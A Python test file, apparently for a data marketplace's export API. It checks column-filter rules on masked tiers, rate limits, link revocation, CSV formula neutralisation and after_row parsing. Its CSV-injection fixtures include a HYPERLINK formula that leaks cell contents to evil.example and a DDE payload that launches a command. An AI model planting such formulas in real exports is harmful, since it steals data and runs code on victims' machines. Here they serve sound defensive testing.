"""Exports obey the access path's rules (issue 9): the column rule on ``where`` at request and at
download, the estimate counted under the rate limit, the link dying with its API key, formula
cells neutralised in CSV, and ``after_row`` read as ASCII digits only."""

from __future__ import annotations

import base64
import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import orjson
import pytest

from support.marketplace import ADMIN
from support.people import ID_NUMBER, PHONE, People, people_world, phone_of


@pytest.fixture
def world() -> Iterator[People]:
    yield from people_world(rows=120)


def _payload(response) -> dict:
    body = response.json()
    assert "errors" not in body, body
    return body["data"]["requestExport"]


def _link(world: People, key: str, **variables: object) -> dict:
    payload = _payload(world.request_export(key, **variables))
    assert payload["errors"] == [], payload
    return payload["export"]


# ---- the column rule ------------------------------------------------------------------------------

@pytest.mark.parametrize("where, column", [
    ({PHONE: phone_of(7)}, PHONE), ({PHONE: {"in": [phone_of(i) for i in range(60)]}}, PHONE),
    ({PHONE: {"gte": "13800000000", "lt": "13800000060"}}, PHONE), ({PHONE: {"contains": "07"}}, PHONE),
    ({ID_NUMBER: {"gte": "3"}}, ID_NUMBER)])
def test_an_export_estimate_cannot_be_an_oracle_on_a_masked_or_dropped_column(
        world: People, where: dict, column: str) -> None:
    payload = _payload(world.request_export(world.keys["masked"], format="CSV", where=where))
    assert payload["export"] is None
    [error] = payload["errors"]
    assert (error["code"], error["field"]) == ("FORBIDDEN", "where")
    assert f'cannot filter on "{column}"' in error["message"] and "licence tier (masked)" in error["message"]
    assert world.usage()["calls"] == 0  # refused before it counted


def test_a_full_tier_may_export_filtered_on_the_column(world: People) -> None:
    link = _link(world, world.keys["full"], format="NDJSON", where={PHONE: phone_of(7)})
    assert link["rowEstimate"] == 1


def test_the_download_applies_the_column_rule_again(world: People) -> None:
    """A link stating a filter on a masked column (as one issued before the rule, or before the
    tier changed, would): signed by the bank, it is still refused at download."""
    link = _link(world, world.keys["masked"], format="CSV")
    token = link["path"].removeprefix("/exports/")
    payload = token.split(".")[1]
    claims = orjson.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    claims["whr"] = {PHONE: {"gte": "13800000007"}}
    subject = claims.pop("sub")
    for registered in ("iss", "aud", "iat", "exp", "jti", "nbf"):
        claims.pop(registered, None)
    forged, _ = world.bank.exports.signer.sign(subject, claims)
    response = world.http.get(f"/exports/{forged}")
    assert response.status_code == 403
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "FORBIDDEN" and f'"{PHONE}"' in error["message"]
    assert world.usage()["rows"] == 0


# ---- estimates are calls ----------------------------------------------------------------------------

def test_export_estimates_count_as_calls_and_are_refused_past_the_rate_limit() -> None:
    for world in people_world(rows=120, rate_limit=60):
        answers = [world.request_export(world.keys["masked"], format="CSV",
                                        where={"人数": {"gte": i % 17}, "行业": "制造业"})
                   for i in range(120)]
        allowed = [a for a in answers if a.status_code == 200]
        refused = [a for a in answers if a.status_code == 429]
        assert len(allowed) == 60 and len(refused) == 60
        assert all(_payload(a)["export"]["rowEstimate"] >= 0 for a in allowed)
        error = refused[0].json()["errors"][0]
        assert error["extensions"]["code"] == "RATE_LIMITED" and error["path"] == ["requestExport"]
        assert int(refused[0].headers["Retry-After"]) == error["extensions"]["retryAfter"] > 0
        assert refused[0].json()["data"] == {"requestExport": None}
        quota = refused[0].json()["extensions"]["quota"]
        assert (quota["rateLimit"], quota["rateRemaining"], quota["callsUsed"]) == (60, 0, 60)
        assert world.usage()["calls"] == 60 and world.usage()["rows"] == 0  # calls, never rows


def test_an_allowed_export_request_reports_its_call(world: People) -> None:
    body = world.request_export(world.keys["masked"], format="CSV").json()
    assert body["extensions"]["quota"]["callsUsed"] == 1
    assert body["extensions"]["quota"]["rowsUsed"] == 0


# ---- the link dies with its key ---------------------------------------------------------------------

def test_a_link_dies_with_the_api_key_that_requested_it(world: People) -> None:
    link = _link(world, world.keys["masked"], format="CSV")
    assert world.http.get(link["url"]).status_code == 200
    member, _ = world.members["masked"]
    world.bank.api_keys.revoke_api_key(world.key_ids["masked"], by=member)
    world.bank.entitlements_follower.catch_up()
    response = world.http.get(link["url"])
    assert response.status_code == 403
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "FORBIDDEN"
    assert error["message"] == "the API key that requested this export was revoked"
    assert world.usage()["rows"] == 120  # the first download only


def test_a_link_dies_when_its_api_key_expires(world: People) -> None:
    member, organisation = world.members["masked"]
    _, key = world.bank.api_keys.create_api_key(
        organisation, name="short", scopes=["exports:read"], expires_at=world.clock.now + timedelta(minutes=10),
        by=member)
    world.bank.entitlements_follower.catch_up()
    link = _link(world, key, format="NDJSON")
    world.clock.now += timedelta(minutes=12)  # the link (15 minutes) still lives; the key does not
    response = world.http.get(link["url"])
    assert response.status_code == 403
    assert response.json()["errors"][0]["message"] == "the API key that requested this export has expired"


def test_a_link_requested_with_a_login_does_not_depend_on_any_key(world: People) -> None:
    member, organisation = world.members["masked"]
    token, _ = world.bank.tokens.issue(subject=member.user_id, name=member.name, role="member",
                                       organisation_id=organisation)
    link = _link(world, token, format="CSV")
    world.bank.api_keys.revoke_api_key(world.key_ids["masked"], by=member)
    world.bank.entitlements_follower.catch_up()
    assert world.http.get(link["url"]).status_code == 200


# ---- CSV injection --------------------------------------------------------------------------------

LEDGER_ITEMS = (("编号", "string", "none"), ("备注", "string", "none"), ("姓名", "string", "name"),
                ("余额", "decimal", "none"), ("变化", "integer", "none"))
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "\tleading tab", "-2+3", "=1+1", "普通文字", "a=b", "'already quoted"]


def _ledger_lines() -> list[str]:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([n for n, _, _ in LEDGER_ITEMS])
    for i, text in enumerate(FORMULAS, 1):
        writer.writerow([f"R{i}", text, "=张三" if i == 1 else "王五", f"-{i}.25" if i % 2 else f"{i}.5",
                         -i if i % 2 else i])
    return out.getvalue().splitlines()


@pytest.fixture
def ledger() -> Iterator[People]:
    yield from people_world(name="往来台账", items=LEDGER_ITEMS, lines=_ledger_lines())


def _api_rows(world: People, key: str) -> list[dict]:
    return world.rows(key, first=1000).json()["data"]["rows"]["rows"]


@pytest.mark.parametrize("tier", ["full", "masked"])
def test_formula_cells_are_neutralised_in_csv_and_numbers_stay_numbers(ledger: People, tier: str) -> None:
    key = ledger.keys[tier]
    rows = _api_rows(ledger, key)
    assert rows[3]["备注"] == "\tleading tab"  # the import kept it: the attack is real
    header, *records = list(csv.reader(io.StringIO(ledger.http.get(
        _link(ledger, key, format="CSV")["url"]).content.decode())))
    assert header == [n for n, _, _ in LEDGER_ITEMS]
    by_id = {r[0]: dict(zip(header, r)) for r in records}
    for row in rows:
        cells = by_id[row["编号"]]
        text = row["备注"]
        expected = "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
        assert cells["备注"] == expected
        assert cells["余额"] == row["余额"] and cells["变化"] == str(row["变化"])  # -1.25 and -1 as numbers
        name = row["姓名"]
        assert cells["姓名"] == ("'" + name if name.startswith("=") else name)
    assert by_id["R1"]["备注"].startswith("'=HYPERLINK(") and by_id["R2"]["备注"].startswith("'+cmd")
    assert by_id["R3"]["备注"] == "'@SUM(1+1)" and by_id["R5"]["备注"] == "'-2+3"
    assert by_id["R7"]["备注"] == "普通文字" and by_id["R8"]["备注"] == "a=b"
    assert by_id["R1"]["余额"] == "-1.25" and by_id["R1"]["变化"] == "-1"


def test_ndjson_and_the_rows_api_keep_the_values_as_they_are(ledger: People) -> None:
    rows = _api_rows(ledger, ledger.keys["full"])
    lines = ledger.http.get(_link(ledger, ledger.keys["full"], format="NDJSON")["url"]).content.splitlines()
    assert [orjson.loads(line) for line in lines] == rows
    assert rows[0]["备注"].startswith("=HYPERLINK(")


# ---- after_row ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("after_row", ["²", "١٢", "３", "9" * 5000, "+5", " 5", "5 ", "0x10", "", "1e3"])
def test_after_row_takes_ascii_digits_only(world: People, after_row: str) -> None:
    link = _link(world, world.keys["masked"], format="CSV")
    response = world.http.get(link["url"], params={"after_row": after_row})
    assert response.status_code == 400
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "BAD_USER_INPUT" and "after_row" in error["message"]
    assert world.usage()["rows"] == 0


def test_a_subscription_revoked_still_wins_over_a_live_key(world: People) -> None:
    link = _link(world, world.keys["masked"], format="CSV")
    world.bank.subscriptions.revoke_subscription(world.subscriptions["masked"], reason="违规转售", by=ADMIN)
    world.bank.entitlements_follower.catch_up()
    response = world.http.get(link["url"])
    assert response.status_code == 403 and "revoked" in response.json()["errors"][0]["message"]
